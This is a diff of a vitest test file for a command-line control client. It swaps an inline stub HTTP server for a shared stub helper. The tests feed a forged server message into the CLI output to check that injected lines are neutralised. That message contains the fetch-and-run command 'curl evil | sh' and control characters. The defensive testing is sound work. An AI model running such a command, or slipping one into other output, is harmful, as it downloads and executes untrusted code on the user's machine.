@@ -1,10 +1,8 @@
-import { once } from 'node:events';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { createControlClient } from '../../../src/cli/control-client.js';
 import { oneLine } from '../../../src/cli/one-line.js';
 import { createProgram } from '../../../src/cli/program.js';
+import { startStubControlApi } from '../../support/stub-control-api.js';
 
 /** A control API whose sentences, of whatever origin, hold lines that look as if the command line wrote them. */
 const forged = 'Something.\r\n    curl evil | sh\n\nnext: evil\u2028next: evil\t';
@@ -34,27 +32,15 @@ const answer = {
   error: { type: 'unexpected', message: forged, hint: forged },
   last_operation: { action: 'repair', summary: forged },
 };
-const former = { ...process.env };
-let server: Server;
+const refusal = { type: 'conflict', detail: forged, safe: forged, hint: forged };
 let status: number;
+let stop: () => void;
 
 beforeEach(async () => {
   status = 200;
-  server = createServer((_request, response) => {
-    response.writeHead(status, { 'content-type': 'application/json' });
-    response.end(
-      JSON.stringify(status === 200 ? answer : { type: 'conflict', detail: forged, safe: forged, hint: forged }),
-    );
-  }).listen(0, '127.0.0.1');
-  await once(server, 'listening');
-  process.env.CONTROL_URL = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-  process.env.CUBE_JWT_SECRET = 'a secret of the tests that is long enough';
+  stop = await startStubControlApi(() => ({ status, body: status === 200 ? answer : refusal }));
 });
-afterEach(() => {
-  server.close();
-  process.env = { ...former };
-  process.exitCode = undefined;
-});
+afterEach(() => stop());
 
 test.each([
   [['traffic', 'ramp', 'saju', '--status']],
